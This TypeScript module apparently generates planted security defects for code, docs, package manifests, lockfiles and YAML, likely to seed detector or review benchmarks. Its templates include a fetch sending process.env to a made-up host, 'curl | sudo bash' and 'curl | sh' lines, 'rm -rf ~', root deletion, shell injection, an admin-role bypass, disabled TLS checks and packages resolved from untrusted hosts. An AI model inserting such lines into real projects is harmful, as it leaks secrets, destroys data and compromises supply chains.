/** A number from 0 (inclusive) to 1 (exclusive). */
export type Draw = () => number;

/** What a defect is written with: the indentation of its place, and a name that is in use there. */
export type Site = { readonly indent: string; readonly name: string };

export type DefectKind = {
  readonly name: string;
  /** The lines that come after its place; `replaces`: in the place of that line. */
  readonly write: (site: Site, draw: Draw) => readonly string[];
  readonly replaces?: true;
};

export type Language = {
  readonly files: RegExp;
  /** A line after which a statement, a sentence or a key can stand. Its groups are `indent` and `name`. */
  readonly place: RegExp;
  readonly defects: readonly DefectKind[];
};

/*
 * Each is a defect wherever it stands: no reading of what is around makes it right. It is written with the names of its surroundings, and
 * looks like the lines beside it. None of it is ever run.
 */
const program: readonly DefectKind[] = [
  {
    name: 'sends the environment away',
    write: ({ indent }, draw) => [
      `${indent}await fetch('https://${host(draw)}/v1/health', {`,
      `${indent}  method: 'POST',`,
      `${indent}  body: JSON.stringify(process.env),`,
      `${indent}});`,
    ],
  },
  { name: 'runs text as code', write: ({ indent, name }) => [`${indent}new Function(String(${name}))();`] },
  {
    name: 'switches certificates off',
    write: ({ indent }) => [`${indent}process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';`],
  },
  {
    name: 'puts a value into a shell command',
    write: ({ indent, name }) => [
      `${indent}require('node:child_process').execSync('convert ' + ${name} + ' out.png');`,
    ],
  },
  {
    name: 'logs a password',
    write: ({ indent }, draw) => [
      `${indent}console.info('${pick(words, draw)}', process.env.DATABASE_PASSWORD);`,
    ],
  },
  {
    name: 'lets a parameter pass over a check',
    write: ({ indent }, draw) => [
      `${indent}if (request.query.${pick(words, draw)} === '1') user.role = 'admin';`,
    ],
  },
  {
    name: 'writes into the prototype of everything',
    write: ({ indent, name }) => [`${indent}Object.assign(Object.prototype, ${name});`],
  },
  {
    name: 'assigns in a condition',
    write: ({ indent, name }) => [`${indent}if (${name} = null) {`, `${indent}  return;`, `${indent}}`],
  },
  {
    name: 'deletes from the root',
    write: ({ indent, name }) => [
      `${indent}require('node:fs').rmSync('/' + ${name}, { recursive: true, force: true });`,
    ],
  },
  {
    name: 'never stops trying',
    write: ({ indent }, draw) => [
      `${indent}for (;;) await fetch('http://${pick(words, draw)}.internal/').catch(() => {});`,
    ],
  },
  {
    name: 'draws a secret from Math.random',
    write: ({ indent }, draw) => [
      `${indent}session.${pick(words, draw)}Token = Math.random().toString(36).slice(2);`,
    ],
  },
];

const document: readonly DefectKind[] = [
  {
    name: 'pipes what nobody has read to a root shell',
    write: (_site, draw) => [`First run \`curl -sSL http://${host(draw)}/setup.sh | sudo bash\`.`],
  },
  {
    name: 'tells to switch certificates off',
    write: () => ['Set `NODE_TLS_REJECT_UNAUTHORIZED=0` when a certificate gets in the way.'],
  },
  { name: 'tells to delete the home', write: () => ['To start afresh, run `rm -rf ~ && npm ci`.'] },
  {
    name: 'tells to publish secrets',
    write: (_site, draw) => [`Commit your \`.env\` so that the ${pick(words, draw)} job has the same keys.`],
  },
  {
    name: 'tells to open files to everybody',
    write: (_site, draw) => [`Run \`sudo chmod -R 777 /var/lib/${pick(words, draw)}\` so that it can write.`],
  },
];

const manifest: readonly DefectKind[] = [
  {
    name: 'takes a package from an unknown repository',
    write: ({ indent, name }, draw) => [
      `${indent}"${name}-${pick(words, draw)}": "git+https://github.com/${pick(words, draw)}-dev/${name}.git",`,
    ],
  },
  {
    name: 'takes a package from an address without a lock',
    write: ({ indent, name }, draw) => [`${indent}"${name}-core": "http://${host(draw)}/${name}.tgz",`],
  },
];

const lockfile: readonly DefectKind[] = [
  {
    name: 'takes a locked package from elsewhere',
    replaces: true,
    write: ({ indent, name }, draw) => [`${indent}"resolved": "https://${host(draw)}/${name}",`],
  },
];

const settings: readonly DefectKind[] = [
  { name: 'runs a container with all rights', write: ({ indent }) => [`${indent}privileged: true`] },
  {
    name: 'loads and runs a script at start',
    write: ({ indent }, draw) => [`${indent}command: sh -c "curl -s http://${host(draw)}/s | sh"`],
  },
];

export const languages: readonly Language[] = [
  {
    files: /\.[cm]?[jt]sx?$/,
    place: /^(?<indent>\s{2,})(?:const|let) (?<name>[A-Za-z_$][\w$]{0,40}) = .*;$/,
    defects: program,
  },
  { files: /\.(md|txt)$/, place: /^(?<indent>)(?<name>[A-Z])[^|`]{20,}\.$/, defects: document },
  {
    files: /(^|\/)package\.json$/,
    place: /^(?<indent>\s+)"(?<name>[a-z][a-z0-9-]{1,40})": "[\^~]?\d[\w.-]*",$/,
    defects: manifest,
  },
  {
    files: /(^|\/)package-lock\.json$/,
    place: /^(?<indent>\s+)"resolved": "https:\/\/[^/"]+\/(?<name>[^"]{1,200})",$/,
    defects: lockfile,
  },
  { files: /\.ya?ml$/, place: /^(?<indent>\s{2,})(?<name>[a-z][\w-]*): [^|>&*{[]+$/i, defects: settings },
];

const words = ['metrics', 'assets', 'edge', 'stats', 'media', 'relay', 'beacon', 'static', 'usage', 'sync'];

export function pick<T>(from: readonly [T, ...T[]] | readonly T[], draw: Draw): T {
  const found = from[Math.min(from.length - 1, Math.floor(draw() * from.length))];
  if (found === undefined) throw new Error('there is nothing to pick from');
  return found;
}

/** Nobody ever connects to it. */
function host(draw: Draw): string {
  return `${pick(words, draw)}-${pick(words, draw)}${10 + Math.floor(draw() * 90)}.net`;
}
